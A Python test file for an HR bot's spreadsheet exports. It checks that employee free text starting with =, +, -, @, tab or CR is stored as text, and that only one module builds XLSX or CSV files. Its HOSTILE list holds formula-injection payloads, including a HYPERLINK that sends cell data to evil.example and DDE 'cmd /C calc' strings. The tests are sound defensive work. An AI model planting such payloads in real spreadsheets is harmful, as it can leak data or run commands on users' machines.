"""Formula injection: every XLSX/CSV export stores employee text as text, through one writer.

Each export is generated with hostile text (``=``, ``+``, ``-``, ``@``, tab, CR at the start)
in every free-text field, opened again with openpyxl or csv, and must hold no formula cell.
A second test fails when code builds a workbook or a CSV file outside ``bot/spreadsheet.py``.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

from openpyxl import load_workbook
from sqlalchemy import update

from bot.aspirations.export import to_csv, to_xlsx
from bot.config import load_settings
from bot.delivery.report_xlsx import build_report
from bot.matching.candidates_xlsx import candidates_workbook
from bot.matching.explain import Explanation
from bot.matching.profiles import EmployeeProfile, PositionSpec
from bot.matching.service import Match
from bot.plans import service, views
from bot.plans.service import Destination
from bot.spreadsheet import FORMULA_STARTS, Sheet, write_csv, write_xlsx
from bot.surveys.aggregate import ResponseRow, aggregate
from bot.surveys.definition import parse_definition
from bot.surveys.export import to_xlsx as survey_xlsx
from bot.texts import t
from bot.workload.balance import UnitBalance
from bot.workload.service import xlsx as workload_xlsx
from storage.db import Database
from storage.models import PlanMove
from storage.queries import audit
from storage.queries.employees import get_employee
from storage.types import ExportRecord
from tests.factories import add_employee

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+62812 =1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
ROOT = Path(__file__).resolve().parent.parent


def _hostile() -> Iterator[str]:
    """The hostile texts, round and round."""
    while True:
        yield from HOSTILE


def assert_no_formula_xlsx(data: bytes) -> None:
    """Open the workbook: no formula cell, and the hostile text is there as text."""
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                texts.append(str(cell.value))
    assert any("HYPERLINK" in text for text in texts), "the hostile text was not exported"


def assert_no_formula_csv(data: bytes) -> None:
    """Read the CSV: no cell starts like a formula, and the hostile text is there."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.match(c)]
    assert any("HYPERLINK" in c for c in cells)


def test_writer_stores_formula_like_text_as_text() -> None:
    """The writer itself: numbers stay numbers, risky text is text in both formats."""
    rows = [[text, -3, 2.5, None, datetime(2027, 1, 1, tzinfo=UTC)] for text in HOSTILE]
    assert_no_formula_xlsx(write_xlsx([Sheet("x", ["a", "b", "c", "d", "e"], rows)]))
    assert_no_formula_csv(write_csv(["a", "b", "c", "d", "e"], rows))
    book = load_workbook(io.BytesIO(write_xlsx([Sheet("x", ["n"], [[-3], ["x\x01y"]])])))
    assert book.active is not None
    assert [c.value for c in book.active["A"]] == ["n", -3, "xy"]


def _aspiration(text: Iterator[str]) -> ExportRecord:
    """An aspiration whose every free-text field is hostile."""
    return ExportRecord(
        reference=next(text), window=next(text), nip="199001012015031001", name=next(text),
        unit=next(text), position=next(text), rank="III/a", kind="mutasi",
        prefs=[{"unit": next(text), "position": next(text)}], reason_cat="other",
        reason_text=next(text), relocate=True, relocate_note=next(text), eligible=True,
        problems=[], status="submitted", hr_note=next(text), submitted_at=None, updated_at=None,
    )  # fmt: skip


def test_aspiration_exports() -> None:
    """Reason, notes and typed units of aspirations, in XLSX and CSV."""
    records = [_aspiration(_hostile()) for _ in range(3)]
    tz = ZoneInfo("Asia/Jakarta")
    assert_no_formula_xlsx(to_xlsx(records, tz))
    assert_no_formula_csv(to_csv(records, tz))


def test_survey_export() -> None:
    """Comments, unit names and named answers of a survey."""
    survey = parse_definition(
        {
            "slug": "s", "anonymous": False, "title": {"id": HOSTILE[0], "en": "x"},
            "questions": [
                {"key": "puas", "kind": "likert", "text": HOSTILE[1]},
                {"key": "catatan", "kind": "text", "required": False, "text": "Catatan"},
            ],
        }
    )  # fmt: skip
    rows = [ResponseRow("30", unit, {"puas": 4, "catatan": unit}) for unit in HOSTILE]
    results = aggregate(survey, rows, [], min_group=1)
    individual = [("199001012015031001", text, text, {"catatan": text}) for text in HOSTILE]
    data = survey_xlsx(survey, results, lambda k: t("id", k), lambda name: name, individual)
    assert_no_formula_xlsx(data)


def test_broadcast_report_candidates_and_workload() -> None:
    """Names and errors in the delivery report, employee data of candidates, unit names."""
    failures = [(100 + i, text, "failed", text, 1) for i, text in enumerate(HOSTILE)]
    assert_no_formula_xlsx(build_report(lambda k: t("id", k), [(HOSTILE[0], 3)], failures))
    position = PositionSpec("P1", HOSTILE[0], HOSTILE[1], HOSTILE[2])
    explanation = Explanation(tuple(HOSTILE), tuple(HOSTILE), True, True, True, True, ())
    people = [EmployeeProfile("1", text, text, text, "III/a", text, text) for text in HOSTILE]
    matches = [Match(person, position, 0.5, explanation) for person in people]
    assert_no_formula_xlsx(candidates_workbook(matches, "id"))
    assert_no_formula_xlsx(workload_xlsx([UnitBalance(text, 3, 2) for text in HOSTILE], "id"))


async def test_plan_export_and_audit_trail(db: Database) -> None:
    """Moves (answers, objections, names) and the audit trail of a plan."""
    text = _hostile()
    employee_id = await add_employee(db, name=next(text), position=next(text))
    async with db.transaction() as session:
        plan = await service.create_plan(session, 1, next(text))
        employee = await get_employee(session, employee_id)
        assert employee is not None
        dest = Destination(None, next(text), next(text))
        await service.add_move(
            session, load_settings(_env_file=None), plan_id=plan.id, employee=employee,
            dest=dest, tmt=date(2027, 2, 1), rationale=next(text), override_reason="",
            actor="tg:1",
        )  # fmt: skip
        await session.execute(
            update(PlanMove).values(
                override_reason=next(text), answer_text=next(text), kept_reason=next(text)
            )
        )
        await audit.record(session, "tg:5", "move.answered", "plan", plan.id, reason=HOSTILE[0])
        await audit.record(session, next(text), "move.kept", "plan", plan.id, reason=HOSTILE[1])
        exported = await views.export_plan(session, 1, plan.id, "id")
        trail = await views.audit_trail(session, 1, plan.id, "id")
    assert exported is not None and trail is not None
    assert_no_formula_xlsx(exported)
    assert_no_formula_xlsx(trail.xlsx)


# Files that write CSV on purpose outside the writer: files the bot itself reads back,
# holding generated values only (a leading apostrophe would break their re-import).
NOT_EXPORTS = {
    "bot/roster/demo_data.py": "the demo roster, an import file of generated rows",
    "bot/demo/data.py": "the demo's positions and moves files, imported by the demo itself",
    "bot/matching/files.py": "matching evaluation predictions (NIP, position id, rank, score)",
}
BYPASS = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|from openpyxl import Workbook")


def test_every_export_goes_through_the_writer() -> None:
    """No module builds a workbook or writes CSV except bot/spreadsheet.py."""
    offenders = []
    for folder in ("bot", "handlers", "storage"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            rel = path.relative_to(ROOT).as_posix()
            if rel == "bot/spreadsheet.py" or rel in NOT_EXPORTS or "/emulator/" in rel:
                continue
            if BYPASS.search(path.read_text(encoding="utf-8")):
                offenders.append(rel)
    assert offenders == [], f"build XLSX/CSV with bot.spreadsheet, not directly: {offenders}"
    for rel in NOT_EXPORTS:
        assert BYPASS.search((ROOT / rel).read_text(encoding="utf-8")), f"stale entry {rel}"
